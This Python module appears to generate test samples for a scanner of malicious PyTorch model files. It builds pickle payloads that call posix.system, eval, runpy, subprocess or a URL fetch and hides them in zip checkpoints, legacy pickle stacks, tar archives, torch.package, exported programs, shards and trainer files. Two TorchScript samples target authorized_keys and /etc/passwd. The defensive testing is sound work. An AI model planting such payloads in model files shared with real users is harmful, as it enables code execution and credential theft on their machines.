"""Payloads in the formats of torch: zip, the older stack of pickles, the oldest tar, TorchScript, packages, exports."""

import io
import json
import pickle
import struct
from collections.abc import Iterator

from .archives import Member, tar_of, torch_zip, zip_of
from .assemble import Call, Raw, Ref, planted, written
from .carried import EVIL
from .sample import CODE, COMMAND, URL, Sample

__all__ = ["samples"]

MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
STORAGE = Raw(
    b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03"
    b"\x00\x00\x00cpuK\x04tQK\x00(K\x02K\x02t(K\x02K\x01t\x89ccollections\nOrderedDict\n)RtR"
)


def _state(payload: object, key: str = "fc.bias") -> bytes:
    """A state dictionary as torch writes it, of one real tensor and the payload."""
    return written({"fc.weight": STORAGE, key: payload}, 2, stacked=False)


def _legacy(*parts: bytes) -> bytes:
    return b"".join(parts).replace(b"K\x04tQ", b"K\x04NtQ")  # its storages have a sixth field, of views


def _files() -> Iterator[tuple[str, dict[str, bytes], str]]:
    system = Call("posix.system", COMMAND)
    yield "zip of tensors and a payload", {"pytorch_model.bin": torch_zip(_state(system))}, "torch"
    yield "zip, payload in eval", {"model.pt": torch_zip(_state(Call("builtins.eval", f"exec({CODE!r})")))}, "torch"
    yield (
        "zip, payload by runpy",
        {
            "epoch9.ckpt": torch_zip(
                _state(Call("runpy._run_code", Call("builtins.compile", CODE, "m", "exec"), {})), "epoch9"
            )
        },
        "torch",
    )
    yield (
        "zip, payload only fetches",
        {"model.pth": torch_zip(_state(Call("torch.hub.load_state_dict_from_url", URL)))},
        "",
    )
    yield (
        "zip, Lightning's hyperparameters",
        {
            "last.ckpt": torch_zip(
                written(
                    {
                        "state_dict": {"fc.weight": STORAGE},
                        "hyper_parameters": {"lr": 0.1, "callback": system},
                        "epoch": 3,
                        "pytorch-lightning_version": "2.1.0",
                    },
                    2,
                    stacked=False,
                )
            )
        },
        "torch",
    )
    rebuild = Call("torch._utils._rebuild_parameter", STORAGE, True, system)
    yield (
        "zip, payload as an argument of a rebuild",
        {"model.pt": torch_zip(written([rebuild], 2, stacked=False))},
        "torch",
    )
    tensor = Call("torch._tensor._rebuild_from_type_v2", Ref("posix.system"), Ref("torch.Tensor"), (COMMAND,), {})
    yield (
        "zip, payload by _rebuild_from_type_v2",
        {"model.pt": torch_zip(written({"t": tensor}, 2, stacked=False))},
        "torch",
    )
    numpy = Call(
        "torch._utils._rebuild_wrapper_subclass", Ref("posix.system"), "f", (1,), (1,), 0, "strided", "cpu", False
    )
    yield "zip, subclass rebuilt by a function", {"model.pt": torch_zip(written({"t": numpy}, 2, stacked=False))}, ""
    data = io.BytesIO(torch_zip(_state(system))).getvalue()
    yield (
        "adapter beside its configuration",
        {
            "adapter_model.bin": data,
            "adapter_config.json": b'{"peft_type": "LORA", "r": 8, "base_model_name_or_path": "gpt2"}',
        },
        "torch",
    )
    yield "optimiser of a trainer", {"optimizer.pt": torch_zip(_state(system, "state")), "config.json": b"{}"}, "torch"
    yield (
        "training_args.bin",
        {"training_args.bin": torch_zip(written(Call("subprocess.Popen", ["touch", "vallum-marker"])))},
        "torch",
    )
    keys, proto, info = pickle.dumps(["0"], 2), pickle.dumps(1001, 2), pickle.dumps(INFO, 2)
    storage = struct.pack("<q", 4) + bytes(16)
    yield (
        "stack of pickles, payload in the object",
        {"model.pth": _legacy(MAGIC, proto, info, _state(system), keys, storage)},
        "torch",
    )
    evil = written(system, 2)
    yield (
        "stack of pickles, payload in the system's description",
        {"model.pth": _legacy(MAGIC, proto, evil, _state(1.0), keys, storage)},
        "torch",
    )
    yield (
        "stack of pickles, payload in the keys",
        {"model.pth": _legacy(MAGIC, proto, info, written({"a": 1}, 2), written([system], 2), storage)},
        "torch",
    )
    yield (
        "stack of pickles, payload is the magic number",
        {"model.pth": _legacy(written(system, 2), proto, info, _state(1.0), keys, storage)},
        "torch",
    )
    for place in ("sys_info", "pickle", "storages", "tensors"):
        parts = {
            "sys_info": pickle.dumps(INFO, 2),
            "storages": pickle.dumps(0, 2),
            "tensors": pickle.dumps(0, 2),
            "pickle": pickle.dumps({"a": 1.0}, 2),
        }
        parts[place] = evil
        yield (
            f"the oldest tar, payload in {place}",
            {"model.tar": tar_of(parts)},
            "torch" if place == "storages" else "",
        )
    source = f"import os\nos.system('{COMMAND}')\nclass Model:\n    pass\n".encode()
    yield (
        "torch.package with source that runs",
        {
            "model.pt": zip_of(
                Member("model/.data/extern_modules", b"torch\n"),
                Member("model/.data/version", b"6\n"),
                Member("model/models/net.py", source),
                Member("model/model/model.pkl", b"\x80\x02cmodels.net\nModel\n)\x81."),
            )
        },
        "",
    )
    yield (
        "torch.package, payload in its pickle",
        {
            "model.pt": zip_of(
                Member("model/.data/extern_modules", b"os\nposix\n"),
                Member("model/.data/version", b"6\n"),
                Member("model/model/model.pkl", evil),
            )
        },
        "",
    )
    expression = {"as_expr": {"expr_str": f"__import__('os').system('{COMMAND}')", "hint": {"as_int": 3}}}
    program = {
        "graph_module": {
            "graph": {
                "inputs": [],
                "outputs": [],
                "nodes": [],
                "tensor_values": {"x": {"dtype": 7, "sizes": [expression], "requires_grad": False}},
                "sym_int_values": {},
            }
        },
        "opset_version": {"aten": 10},
        "range_constraints": {},
        "schema_version": {"major": 8, "minor": 2},
    }
    yield (
        "exported program with an expression that is evaluated",
        {
            "model.pt2": zip_of(
                Member("archive/version", b"0"),
                Member("archive/models/model.json", json.dumps(program).encode()),
                Member("archive/archive_format", b"pt2"),
            )
        },
        "",
    )
    yield (
        "exported program, payload in its constants",
        {
            "model.pt2": zip_of(
                Member("serialized_exported_program.json", b"{}"),
                Member("serialized_state_dict.pt", torch_zip(_state(system))),
                Member("serialized_constants.pt", torch_zip(written({}, 2))),
                Member("version", b"8.2"),
            )
        },
        "",
    )
    index = {"metadata": {"total_size": 64}, "weight_map": {"fc.weight": "part-1.bin", "fc.bias": "part-2.bin"}}
    yield (
        "second shard is bad",
        {
            "pytorch_model.bin.index.json": json.dumps(index).encode(),
            "part-1.bin": torch_zip(_state(1.0)),
            "part-2.bin": torch_zip(_state(system)),
            "config.json": b'{"model_type": "bert"}',
        },
        "",
    )
    yield (
        "distributed checkpoint's .metadata",
        {".metadata": written(planted(system, {"version": "1"})), "__0_0.distcp": torch_zip(_state(1.0))},
        "pickle",
    )
    yield "RNG state of a trainer", {"rng_state.pth": torch_zip(EVIL), "trainer_state.json": b'{"epoch": 1.0}'}, "torch"


def _scripts() -> Iterator[tuple[str, bytes]]:
    import torch

    class Writes(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            torch.save(x, "/tmp/vallum-none/authorized_keys")
            return x

    class Reads(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.from_file("/etc/passwd", False, 64, dtype=torch.uint8)

    for name, module in (("TorchScript that writes a file", Writes()), ("TorchScript that reads a file", Reads())):
        file = io.BytesIO()
        torch.jit.save(torch.jit.script(module), file)
        yield name, file.getvalue()


def samples() -> Iterator[Sample]:
    for name, files, proof in _files():
        yield Sample("torch files", name, files, proof=proof)
    try:
        for name, data in _scripts():
            yield Sample("torch files", name, {"model.pt": data})
    except ImportError:
        return
